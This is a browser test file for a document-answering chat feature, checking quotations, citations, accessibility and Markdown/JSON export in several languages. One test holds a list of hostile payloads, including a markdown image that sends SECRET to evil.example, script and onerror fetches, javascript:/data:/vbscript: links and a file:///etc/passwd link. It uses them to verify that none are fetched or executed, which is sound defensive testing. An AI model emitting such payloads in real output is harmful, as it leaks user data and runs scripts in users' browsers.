import { violations } from '@plinth/testing/browser/axe.ts'
import { addDocuments } from '@plinth/testing/browser/open-conversation.ts'
import { expect, reload, test } from '@plinth/testing/browser/fixtures.ts'
import { languages, tagOf, textIn } from '@plinth/testing/browser/texts.ts'
import { exported, log, openChat, ragPage, send, speak } from './chat-fixtures.ts'
import { hasSources } from '../tests/has-sources.ts'

// Answers from documents.

test.skip(!hasSources, 'No feature has documents')

const handbook = {
  en: {
    text: 'The kiln is heated to 1240 degrees for stoneware. Cooling takes two days.',
    question: 'To how many degrees is the kiln heated for stoneware?',
  },
  de: {
    text: 'Der Ofen wird für Steinzeug auf 1240 Grad geheizt. Das Abkühlen dauert zwei Tage.',
    question: 'Auf wie viel Grad wird der Ofen für Steinzeug geheizt?',
  },
  es: {
    text: 'El horno se calienta a 1240 grados para el gres. Enfriarlo tarda dos días.',
    question: '¿A cuántos grados se calienta el horno para el gres?',
  },
  pt: {
    text: 'O forno é aquecido a 1240 graus para o grés. O resfriamento leva dois dias.',
    question: 'A quantos graus o forno é aquecido para o grés?',
  },
}

for (const language of languages) {
  const entry = new Map(Object.entries(handbook)).get(language)
  if (!entry) continue
  const t = textIn(language)
  test(
    `without a key a document is quoted and opens at the quotation: ${language}`,
    tagOf(language),
    async ({ page, enter, user }) => {
      await speak(page, language)
      await enter(user)
      await openChat(page, ragPage)
      await addDocuments(page, { files: { 'kiln.md': `# Kiln\n\n${entry.text}\n` }, language })
      await send(page, entry.question)
      const quotes = log(page).locator('blockquote')
      await expect(quotes.filter({ hasText: '1240' })).toHaveCount(1)
      await expect(quotes.filter({ hasText: /^\s*Kiln/ })).toHaveCount(0)
      const citation = quotes
        .filter({ hasText: '1240' })
        .getByRole('button', { name: t('chat:sources.open', { number: '1', name: 'kiln.md', page: '1' }) })
      await citation.click()
      const side = page.getByRole('complementary', { name: 'kiln.md' })
      await expect(side.locator('mark')).toBeInViewport()
      const quoted = (await quotes.filter({ hasText: '1240' }).innerText()).replace(/\s*1\s*$/, '')
      await expect(side.locator('mark')).toHaveText(quoted)
      await expect(side).toBeFocused()
      expect(await violations(page)).toEqual([])
      await page.keyboard.press('Escape')
      await expect(side).toHaveCount(0)
      await expect(citation).toBeFocused()
      const threads = page.getByRole('complementary', { name: t('chat:threads.title') })
      await threads.getByRole('button').last().click()
      await page.getByRole('dialog').getByRole('button', { name: 'kiln.md', exact: true }).click()
      await expect(page.getByRole('dialog', { name: 'kiln.md' })).toContainText('1240')
      await page.keyboard.press('Escape')
      await page.keyboard.press('Escape')
      await page.setViewportSize({ width: 390, height: 844 })
      await citation.click()
      await expect(page.getByRole('dialog', { name: 'kiln.md' }).locator('mark')).toHaveText(quoted)
      await page.keyboard.press('Escape')
      await expect(citation).toBeFocused()
      await send(page, 'Zyxwv qwrtp?')
      await expect(log(page).getByText(t('built-in:quotes.none'))).toBeVisible()
    },
  )
}

const poison = [
  '![a](https://evil.example/a.png?d=SECRET)',
  '<img src="https://evil.example/b.png" onerror="fetch(\'https://evil.example/c\')">',
  '[click](javascript:alert(1)) <a href="javascript:alert(2)">here</a>',
  '<script>fetch("https://evil.example/d")</script><iframe src="https://evil.example/e"></iframe>',
  '![b][r] <svg onload="alert(3)"><style>@import "https://evil.example/f"</style>',
  '[r]: https://evil.example/g.png',
  '<link rel="preload" as="image" href="https://evil.example/h.png"> ![x](//evil.example/i.png)',
  '[data](data:text/html,<script>alert(4)</script>) [v](vbscript:msgbox(5)) [f](file:///etc/passwd)',
]

test('a poisoned document or message is shown as text: nothing is fetched from elsewhere, nothing runs, no link runs a script', async ({
  page,
  enter,
  user,
  baseURL,
}) => {
  const foreign: string[] = []
  page.on(
    'request',
    (request) =>
      !request.url().startsWith(baseURL ?? '') &&
      /^https?:/.test(request.url()) &&
      foreign.push(request.url()),
  )
  page.on('dialog', (dialog) => foreign.push(dialog.message()))
  await enter(user)
  await openChat(page, ragPage)
  await addDocuments(page, {
    files: {
      'poison.md': poison
        .map((line, at) => `The secret glaze number ${at} is celadon ${line} celadon.`)
        .join('\n\n'),
    },
    language: 'en',
  })
  for (const [at, line] of poison.entries()) {
    await send(page, `What is the secret glaze number ${at}? ${line}`)
    await expect(
      log(page).locator(
        'img, iframe, script, style, svg[onload], a[href^="javascript:"], a[href^="data:"], a[href^="vbscript:"]',
      ),
    ).toHaveCount(0)
  }
  await expect(log(page).getByText('celadon').first()).toBeVisible()
  for (const rel of await log(page)
    .locator('a[href^="http"]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('rel'))))
    expect(rel).toContain('noopener')
  await reload(page)
  expect(foreign).toEqual([])
})

test('an answer is exported as Markdown and as JSON, with its sources', async ({ page, enter, user }) => {
  const t = textIn('en')
  const { text, question } = handbook.en
  await enter(user)
  await openChat(page, ragPage)
  await addDocuments(page, { files: { 'kiln.md': `# Kiln\n\n${text}\n` }, language: 'en' })
  await openChat(page, ragPage)
  await send(page, question)
  const markdown = await exported(page, { title: question, entry: t('chat:threads.asMarkdown') })
  expect(markdown.name).toBe(`${question.replaceAll('?', ' ').trim()}.md`)
  expect(markdown.text).toContain(`# ${question}`)
  expect(markdown.text).toContain(`> ${question}`)
  expect(markdown.text).toContain(String.raw`- \[1\] kiln.md, page 1`)
  const json = await exported(page, { title: question, entry: t('chat:threads.asJson') })
  expect(JSON.parse(json.text)).toMatchObject({
    title: question,
    messages: [{ role: 'user' }, { role: 'assistant', model: { isBuiltIn: true } }],
  })
})
